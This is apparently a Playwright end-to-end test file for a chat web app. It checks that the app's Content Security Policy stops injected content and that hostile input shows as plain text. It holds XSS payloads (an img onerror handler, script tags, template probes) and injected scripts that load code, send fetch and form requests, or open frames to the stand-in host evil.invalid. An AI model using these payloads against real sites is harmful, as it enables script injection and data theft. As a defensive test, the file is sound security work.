"""The policy in a real Chromium: no screen is against it, and nothing that is injected runs."""

from __future__ import annotations

import re
import urllib.parse
from typing import TYPE_CHECKING, Any

import pytest

pytest.importorskip("playwright.sync_api")
from gradio_client import Client
from playwright.sync_api import expect

from tests.e2e.test_chat import ask

if TYPE_CHECKING:
    from playwright.sync_api import Page

expect.set_options(timeout=60_000)

HARM = (
    '"><img src=x onerror="window.pwned=1"><script>window.pwned=2</script>${window.pwned=3}'
    "</style><style>*{background:url(http://evil.invalid/)}</style>'`{{7*7}}"
)
NAME = "\"><img src=x onerror='window.pwned=4'>"
QUESTION = "When did the glassworks at Tarn put out the last furnace?"
_PWNED = "[window.pwned, window.__pwned]"


def test_words_in_every_field_stay_words_on_every_screen(page: Page, chat_url: str) -> None:
    client = Client(chat_url, download_files=False, verbose=False, analytics_enabled=False)
    hosts: set[str] = set()
    page.on("request", lambda request: hosts.add(urllib.parse.urlsplit(request.url).netloc))
    client.predict(NAME, ["hostile"], api_name="/collect")
    note = client.predict("hostile", HARM, "", api_name="/add_note")["id"]
    _walk(page)
    assert page.evaluate(_PWNED) == [None, None]
    assert page.locator("img, iframe, [onerror], [onmouseover]").count() == 0
    assert hosts - {""} == {urllib.parse.urlsplit(page.url).netloc}
    client.predict(note, api_name="/remove_note")
    client.predict(NAME, api_name="/remove_collection")


def _walk(page: Page) -> None:
    """Ask with harm, and go through chat, article, finder and library."""
    ask(page, HARM)
    turn = ask(page, QUESTION)
    turn.get_by_text("How this was found").click()
    turn.get_by_role("button", name=re.compile("^Clip")).first.click()
    page.locator(".card .title").first.click()
    article = page.get_by_role("dialog", name="Article")
    expect(article).to_contain_text(HARM)
    article.get_by_label("Find in this article").fill(HARM)
    article.get_by_role("button", name="Edit details").click()
    page.get_by_role("button", name="Close", exact=True).click()
    page.get_by_role("button", name="Filters", exact=True).click()
    page.keyboard.press("Control+k")
    page.keyboard.type(HARM[:60])
    expect(page.locator("#finder")).to_contain_text(HARM[:30])
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Library", exact=True).click()
    page.get_by_label("Search the articles").fill(HARM)
    expect(page.get_by_role("heading", name=re.compile("^No article has"))).to_be_visible()
    page.get_by_role("button", name="Show all").click()
    for view in ("Timeline", "Map"):
        page.get_by_role("button", name=view, exact=True).click()
        expect(page.get_by_role("application", name=re.compile(f"^{view} of"))).to_be_visible()
    page.get_by_role("button", name="List", exact=True).click()
    files: Any = {"name": f"{NAME}.exe", "mimeType": "text/plain", "buffer": b"MZ"}
    page.locator(".shelf input.files").set_input_files(files)
    expect(page.locator(".shelf .notice").filter(has_text="unsupported format")).to_be_visible()
    page.get_by_role("button", name="Chat", exact=True).click()


INJECTED = {
    "a script": (
        "const one = document.createElement('script'); one.textContent = 'window.ran = 1';"
        "document.head.append(one);",
        "script-src-elem: inline",
    ),
    "a script from elsewhere": (
        "const one = document.createElement('script'); one.src = 'http://evil.invalid/x.js';"
        "document.head.append(one);",
        "script-src-elem: http://evil.invalid/x.js",
    ),
    "a handler": (
        "document.body.insertAdjacentHTML('beforeend', '<b onclick=\"window.ran = 2\">x</b>');"
        "document.body.lastElementChild.click(); document.body.lastElementChild.remove();",
        "script-src-attr: inline",
    ),
    "an address that is a script": (
        "const one = document.createElement('a'); one.href = 'javascript:window.ran = 3';"
        "document.body.append(one); one.click(); one.remove();",
        "script-src-elem: inline",
    ),
    "a picture from elsewhere": (
        "document.body.insertAdjacentHTML('beforeend', '<style id=evil>body { background: "
        "url(http://evil.invalid/p.png) }</style>'); getComputedStyle(document.body).background;",
        "img-src: http://evil.invalid/p.png",
    ),
    "a frame": (
        "const one = document.createElement('iframe'); one.src = 'http://evil.invalid/';"
        "document.body.append(one);",
        "frame-src: http://evil.invalid",
    ),
    "a form": (
        "const one = document.createElement('form'); one.action = 'http://evil.invalid/';"
        "document.body.append(one); one.submit();",
        "form-action: http://evil.invalid/",
    ),
    "a request": (
        "fetch('http://evil.invalid/').catch(() => {});",
        "connect-src: http://evil.invalid/",
    ),
}


@pytest.mark.parametrize("what", INJECTED)
def test_what_is_injected_does_not_run_and_loads_nothing(page: Page, what: str) -> None:
    script, refused = INJECTED[what]
    page.evaluate(f"() => {{ {script} }}")
    page.wait_for_function("window.violations.length > 0")
    told = page.evaluate("window.violations")
    assert [one for one in told if one.startswith(refused)] == told
    assert page.evaluate("window.ran") is None
    page.evaluate("window.violations = []")
